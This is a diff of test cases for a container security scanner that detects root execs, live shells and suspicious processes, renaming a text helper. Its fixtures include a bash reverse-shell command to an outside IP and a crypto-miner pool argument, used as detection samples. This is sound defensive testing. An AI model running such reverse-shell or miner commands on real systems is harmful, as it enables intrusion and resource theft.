@@ -1,7 +1,7 @@
 import {known} from '../../../src/answers/index.js';
 import type {ContainerExample} from '../../../src/rules/rule.js';
 import {exampleExec, exampleProcess, rootProcess, withExec} from '../../../src/rules/shared/examples.js';
-import {own} from '../../../src/terminal/safe-text.js';
+import {trusted} from '../../../src/terminal/safe-text.js';
 import {type Cases, row} from '../rule-cases.js';
 import {running} from './case.js';
 
@@ -12,18 +12,18 @@ export const processCases: Cases<ContainerExample> = {
 		row('not running, and starts one', 'fail', {State: {Status: 'exited', Running: false}, Path: '/usr/sbin/dropbear'}),
 	],
 	'container-exec-root': [
-		row('the health check', 'pass', withExec({user: own('0'), isRoot: true, isHealthcheck: true})),
-		row('one that has ended', 'pass', withExec({user: own('0'), isRoot: true, running: false})),
-		row('by a name that cannot be resolved', 'unknown', withExec({user: own('toor'), isRoot: null, pid: 42})),
+		row('the health check', 'pass', withExec({user: trusted('0'), isRoot: true, isHealthcheck: true})),
+		row('one that has ended', 'pass', withExec({user: trusted('0'), isRoot: true, running: false})),
+		row('by a name that cannot be resolved', 'unknown', withExec({user: trusted('toor'), isRoot: null, pid: 42})),
 		row(
 			'by a name, and its process is of uid 0',
 			'fail',
-			withExec({user: own('toor'), isRoot: null, pid: 42}, [rootProcess('sh')]),
+			withExec({user: trusted('toor'), isRoot: null, pid: 42}, [rootProcess('sh')]),
 		),
 		row(
 			'by a name, and its process is of another uid',
 			'pass',
-			withExec({user: own('app'), isRoot: null, pid: 42}, [exampleProcess('sh')]),
+			withExec({user: trusted('app'), isRoot: null, pid: 42}, [exampleProcess('sh')]),
 		),
 		row('in a container that runs as root', 'pass', {
 			ExecIDs: ['e1'],
@@ -34,21 +34,21 @@ export const processCases: Cases<ContainerExample> = {
 		row('not running', 'not-applicable', {State: {Status: 'exited', Running: false}}),
 	],
 	'container-live-shell': [
-		row('a command', 'pass', {ExecIDs: ['e1'], facts: {execs: known([exampleExec({command: own('sh -c date')})])}}),
+		row('a command', 'pass', {ExecIDs: ['e1'], facts: {execs: known([exampleExec({command: trusted('sh -c date')})])}}),
 	],
 	'container-suspicious-process': [
 		row('a miner by its pool', ['high', /miner/], {
-			facts: {processes: known([exampleProcess('java', {args: own('java -jar x.jar stratum+tcp://pool:3333')})])},
+			facts: {processes: known([exampleProcess('java', {args: trusted('java -jar x.jar stratum+tcp://pool:3333')})])},
 		}),
 		row('a reverse shell', ['high', /reverse shell/], {
-			facts: {processes: known([exampleProcess('bash', {args: own('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')})])},
+			facts: {processes: known([exampleProcess('bash', {args: trusted('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')})])},
 		}),
 		row('a script that waits for a port', 'pass', {
 			facts: {
-				processes: known([exampleProcess('bash', {args: own('bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done')})]),
+				processes: known([exampleProcess('bash', {args: trusted('bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done')})]),
 			},
 		}),
-		row('a probe with nc', 'pass', {facts: {processes: known([exampleProcess('nc', {args: own('nc -z localhost 80')})])}}),
+		row('a probe with nc', 'pass', {facts: {processes: known([exampleProcess('nc', {args: trusted('nc -z localhost 80')})])}}),
 		row('a shell under a server', ['medium', /started by nginx/], {
 			facts: {processes: known([exampleProcess('nginx', {pid: 7}), exampleProcess('sh', {pid: 9, parent: 7})])},
 		}),
